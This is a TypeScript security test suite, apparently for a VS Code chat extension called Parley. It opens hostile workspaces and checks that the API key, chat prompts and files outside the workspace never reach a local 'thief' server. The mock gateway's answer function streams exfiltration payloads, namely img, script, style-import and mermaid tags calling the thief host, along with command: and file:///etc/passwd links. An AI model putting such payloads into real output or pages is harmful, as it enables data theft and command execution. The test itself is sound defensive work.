import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { filesContaining } from '../../support/filesContaining';
import { startVSCode, type VSCode } from '../../support/startVSCode';
import { checkGateway, openParley, quickInput } from '../../support/workbench';
import { buildInside } from '../support/buildInside';
import { extent } from '../support/extent';
import { printFigures } from '../support/printFigures';
import { RecordingGateway, sendJson, streamAnswer, type RecordedRequest } from '../support/recordingGateway';
import { SecretSearch } from '../support/secretSearch';
import { Thief } from '../support/thief';
import { UserSettings } from '../support/userSettings';
import { arbitraryPath, knownPaths, linkingName } from './hostilePaths';
import { hostileEditorSettings, hostileParleySettings, variants } from './hostileSettings';
import {
  instructionsMark,
  makeFolder,
  makeOutside,
  makeWorkspaceFile,
  outsideMark,
  type FolderKind,
} from './hostileWorkspace';
import { planVariable, type PathReport, type Plan, type Report } from './inside/plan';
import { farGateway, farHost, rightGateway } from './rightGateway';
import { WatchedFolder } from './watchedFolder';
import { watchNotices, type Notices } from './watchNotices';

const key = 'sk-hostile-0f3Kq81ZbW47xYtN';
const promptMark = 'PROMPT-59ae';
const kinds: readonly FolderKind[] = ['plain', 'linked', 'endless'];
/** How long one window may take, in milliseconds. */
const limit = extent(240_000, 900_000);

/** A window on a hostile workspace. */
interface Window {
  readonly trusted: boolean;
  /** One folder of a kind, or all of them in a workspace file. */
  readonly folders: FolderKind | 'all';
  readonly variant: number;
  readonly triesPaths?: boolean;
}

const windows: readonly Window[] = extent<readonly Window[]>(
  [
    { trusted: false, folders: 'plain', variant: 0 },
    { trusted: true, folders: 'all', variant: 0, triesPaths: true },
  ],
  [true, false].flatMap((trusted) =>
    variants.flatMap((variant) =>
      (['all', ...kinds] as const).map((folders) => ({
        trusted,
        folders,
        variant,
        triesPaths: folders === 'all',
      })),
    ),
  ),
);

describe('a hostile workspace', () => {
  const tried = { values: 0, paths: 0, races: 0, read: 0, written: 0 };
  let thief: Thief;
  let gateway: RecordingGateway;
  let folder: string;
  let outside: WatchedFolder;
  let vscode: VSCode;
  let settings: UserSettings;
  let testsPath: string;

  before(async () => {
    thief = await Thief.start();
    gateway = await RecordingGateway.start((request, response) => {
      answer(request, response, gateway.origin, thief.host);
    });
    folder = await mkdtemp(join(tmpdir(), 'parley-hostile-'));
    await makeOutside(join(folder, 'outside'));
    await makeOutside(join(folder, 'late'));
    outside = new WatchedFolder(join(folder, 'outside'));
    await outside.watch();
    testsPath = await buildInside(join(__dirname, 'inside', 'index.ts'));
    vscode = await startVSCode({ trust: false, env: { [planVariable]: join(folder, 'plan.json') } });
    settings = await UserSettings.of(vscode);
  });

  after(async () => {
    await vscode.dispose();
    await gateway.stop();
    await thief.stop();
    await rm(folder, { recursive: true, force: true });
    printFigures('workspace', {
      'windows on hostile workspaces': windows.length,
      'settings × scopes': tried.values,
      'bytes to another host': thief.bytes,
      'paths tried': tried.paths,
      'races with a link': tried.races,
      'files outside read': outside.notesReadings ? tried.read : 'not watched',
      'files outside written': tried.written,
    });
  });

  for (const [index, window] of windows.entries()) {
    const { trusted, folders, variant } = window;
    const name = `${trusted ? 'trusted' : 'not trusted'}, ${folders === 'all' ? 'of several folders' : folders}, ${variant}`;
    it(`(${name}) gets neither key nor prompt, and no file outside`, async () => {
      const asked = gateway.requests.length;
      const workspace = await makeWorkspace(window, join(folder, String(index)));
      const { report, notices } = await visit(window, workspace, join(folder, `${index}.json`));
      assert.equal(report.error, null);
      assert.equal(report.trusted, trusted);
      assert.deepEqual(
        new Set(report.sockets),
        new Set(['127.0.0.1', farHost].map((host) => `${host}:${gateway.port}`)),
      );
      // What VS Code takes from such a workspace is what Parley must not take: proof that the values arrived.
      assert.deepEqual(report.seen['search.exclude'], ['workspace', 'folder']);
      assert.deepEqual(report.seen['parley.gateways'], []);
      tried.values += scopeCount(window) * Object.keys(report.seen).length;
      if (report.paths !== null) checkPaths(report.paths, notices);
      if (report.paths !== null) await visitByHand(workspace);
      checkRequests(gateway.requests.slice(asked), window);
      assert.deepEqual(
        [thief.connections, thief.bytes],
        [0, 0],
        Buffer.concat(thief.loot).toString('latin1'),
      );
      const read = await outside.wasRead();
      const written = await outside.wasWritten();
      tried.read += read.length;
      tried.written += written.length;
      assert.deepEqual({ read, written }, { read: [], written: [] });
      await outside.watch();
    }).timeout(limit * 2);
  }

  it('leaves the key nowhere but in SecretStorage and in the header to its own origin', async () => {
    const search = new SecretSearch(key);
    const { found } = await search.findInFiles(vscode.dataFolder);
    const heard = [...vscode.log, ...gateway.requests.map(withoutAuthorization)].map((text) =>
      search.find(text),
    );
    assert.deepEqual([...found, ...heard.filter((text) => text !== undefined)], []);
    assert.ok((await filesContaining(vscode.dataFolder, promptMark)).length > 0, 'No chat is on the disk.');
  });

  /** Opens a window in which the module inside does what the plan says, and waits for its report. */
  async function visit(
    window: Window,
    workspace: string,
    reportPath: string,
  ): Promise<{ report: Report; notices: Notices }> {
    await settings.write(userSettings(window));
    await writeFile(join(folder, 'plan.json'), JSON.stringify(planOf(window, reportPath)));
    // VS Code now and then reads a workspace's own file too early, and then has no folders: a person would open it again.
    for (let openings = 1; ; openings += 1) {
      const page = await vscode.page({ workspace, testsPath });
      const noticesOf = await watchNotices(page);
      await waitFor(() => existsSync(reportPath));
      const report = JSON.parse(await readFile(reportPath, 'utf8')) as Report;
      const notices = await noticesOf();
      await page.close();
      if (report.opened) return { report, notices };
      assert.ok(openings < 5 && report.error === null, `The window has no folders: ${report.error}`);
      await rm(reportPath);
    }
  }

  /** What needs a person: the box for the key, a dialog, and what looks like links in an answer. */
  async function visitByHand(workspace: string): Promise<void> {
    const page = await vscode.page({ workspace });
    const view = await openParley(page);
    await view.getByRole('button', { name: 'New Chat' }).click();
    await view.getByRole('article').first().waitFor({ state: 'detached' });
    await view.getByRole('textbox', { name: 'Message' }).fill(`By hand ${promptMark}`);
    await page.keyboard.press('Enter');
    // This VS Code forgets its secrets with the window.
    await view.getByRole('alert').getByRole('button', { name: 'Set API Key' }).click();
    await quickInput(page).fill(key);
    await page.keyboard.press('Enter');
    const answered = view.getByRole('article', { name: 'gpt-4o' }).last();
    await answered.getByText('command', { exact: true }).click();
    await answered.getByText('file', { exact: true }).click();
    assert.equal(await view.locator('a[href^="command:"], a[href^="file:"], [src*="://127"]').count(), 0);
    await checkGateway(page, 'Right');
    await page.getByRole('tab', { name: /Check Results for Right/ }).waitFor();
    await page.close();
  }

  function checkPaths(paths: PathReport, { texts, links }: Notices): void {
    assert.deepEqual(paths.escapes, []);
    assert.ok(paths.read > 0, 'Nothing was ever read in a race.');
    const asked = (words: string): number => paths.questions.filter((text) => text.includes(words)).length;
    assert.ok(asked('may run or follow') >= 4, paths.questions.join('\n'));
    assert.ok(asked('is outside the workspace') > 0, paths.questions.join('\n'));
    assert.ok(
      texts.some((text) => text.includes(linkingName.slice(0, 8))),
      texts.join('\n'),
    );
    assert.deepEqual(links, []);
    tried.paths += paths.tried;
    tried.races += paths.races;
  }

  async function makeWorkspace({ folders, variant }: Window, at: string): Promise<string> {
    const hostile = hostileSettings(variant);
    const chosen = folders === 'all' ? kinds : [folders];
    const paths = chosen.map((kind) => join(at, kind));
    for (const [index, path] of paths.entries()) {
      await mkdir(path, { recursive: true });
      await makeFolder(path, chosen[index] ?? 'plain', join(folder, 'outside'), hostile);
    }
    if (folders !== 'all') return paths[0] ?? at;
    const file = join(at, 'team.code-workspace');
    await makeWorkspaceFile(file, paths, hostile);
    return file;
  }

  function hostileSettings(variant: number): Record<string, unknown> {
    return { ...hostileEditorSettings(thief.host, variant), ...hostileParleySettings(thief.host, variant) };
  }

  function userSettings({ trusted }: Window): Record<string, unknown> {
    return {
      'parley.automaticTitles': true,
      'parley.gateways': [
        { id: rightGateway, name: 'Right', baseUrl: `${gateway.origin}/v1` },
        { id: farGateway, name: 'Far', baseUrl: `http://${farHost}:${gateway.port}/v1`, auth: 'none' },
      ],
      'security.workspace.trust.enabled': !trusted,
      'security.workspace.trust.startupPrompt': 'never',
    };
  }

  function planOf({ folders, variant, triesPaths }: Window, reportPath: string): Plan {
    const outsideFolder = join(folder, 'outside');
    const known = knownPaths(outsideFolder);
    const generated = fc.sample(arbitraryPath(outsideFolder), {
      numRuns: extent(200, 10_000),
      seed: variant,
    });
    return {
      reportPath,
      key,
      promptMark,
      gatewayPort: gateway.port,
      thief: thief.host,
      folders: folders === 'all' ? kinds.length : 1,
      settings: Object.keys(hostileSettings(variant)),
      triesUserSettings: triesPaths === true,
      ...(triesPaths === true && {
        paths: {
          outside: outsideFolder,
          late: join(folder, 'late'),
          paths: [...known, ...generated],
          // Each takes half a second: in the short form one of every sort.
          inProduct: known.filter((_, index) => index % extent(9, 1) === extent(7, 0)),
          races: extent(300, 5_000),
        },
      }),
    };
  }

  function checkRequests(requests: readonly RecordedRequest[], { trusted, folders }: Window): void {
    const all = JSON.stringify(requests);
    assert.ok(requests.filter(({ prompt }) => prompt.includes(promptMark)).length >= 3);
    assert.ok(requests.some(({ path }) => path === '/v1/models'));
    assert.ok(requests.some(({ headers }) => headers.host?.startsWith(farHost) === true));
    for (const { headers, body, path } of requests) {
      const isFar = headers.host === `${farHost}:${gateway.port}`;
      const isMedium = path.startsWith('/media');
      assert.equal(headers.authorization, isFar || isMedium ? undefined : `Bearer ${key}`);
      if (!isFar) assert.equal(headers.host, `127.0.0.1:${gateway.port}`);
      assert.ok(!body.includes(key));
    }
    assert.ok(!all.includes(outsideMark));
    assert.ok(!all.includes('stolen-model'));
    assert.ok(!all.includes('huge huge') && !all.includes('binary'));
    assert.equal(all.includes(instructionsMark), trusted && (folders === 'all' || folders === 'plain'));
    // The answers name the thief; the workspace's settings must not.
    for (const { body } of requests) assert.ok(!withoutAnswers(body).includes(thief.host));
  }

  async function waitFor(condition: () => boolean): Promise<void> {
    const end = Date.now() + limit;
    while (!condition()) {
      if (Date.now() > end) throw new Error(`The window has hung.\n${vscode.log.slice(-40).join('\n')}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }
});

/** A user's, a workspace's and, where there is a workspace file, a folder's. */
function scopeCount({ folders }: Window): number {
  return folders === 'all' ? 3 : 2;
}

/** The one place where the key belongs. */
function withoutAuthorization({ path, headers, body }: RecordedRequest): string {
  return JSON.stringify([path, { ...headers, authorization: '' }, body]);
}

function withoutAnswers(body: string): string {
  if (!body.startsWith('{"')) return body;
  const value = JSON.parse(body) as { messages?: readonly { role: string; content: unknown }[] };
  const messages = (value.messages ?? []).filter(
    ({ role, content }) => role !== 'assistant' && !JSON.stringify(content).includes('Write a title'),
  );
  return JSON.stringify({ ...value, messages });
}

/** Answers with what would lead a careless panel to the thief. */
function answer(request: RecordedRequest, response: ServerResponse, origin: string, thief: string): void {
  if (request.path === '/v1/models') {
    sendJson(response, 200, { data: [{ id: 'gpt-4o' }] });
  } else if (request.path.startsWith('/media')) {
    response.writeHead(200, { 'content-type': 'image/png' });
    response.end(Buffer.from('iVBORw0KGgo=', 'base64'));
  } else {
    const text = [
      `![picture](http://${thief}/${promptMark}.png)`,
      `<img src="http://${thief}/img"><script src="http://${thief}/s.js"></script><style>@import "http://${thief}/c"</style>`,
      `[link](http://${thief}/) [command](command:workbench.action.quit) [file](file:///etc/passwd)`,
      '```mermaid\nflowchart LR\n  a["<img src=http://' +
        thief +
        '/m>"]\n  click a "http://' +
        thief +
        '/"\n```',
    ];
    const pictures = [{ type: 'image_url', image_url: { url: `${origin}/media/a.png` } }];
    streamAnswer(response, [...text.map((content) => ({ content: `${content}\n\n` })), { images: pictures }]);
  }
}
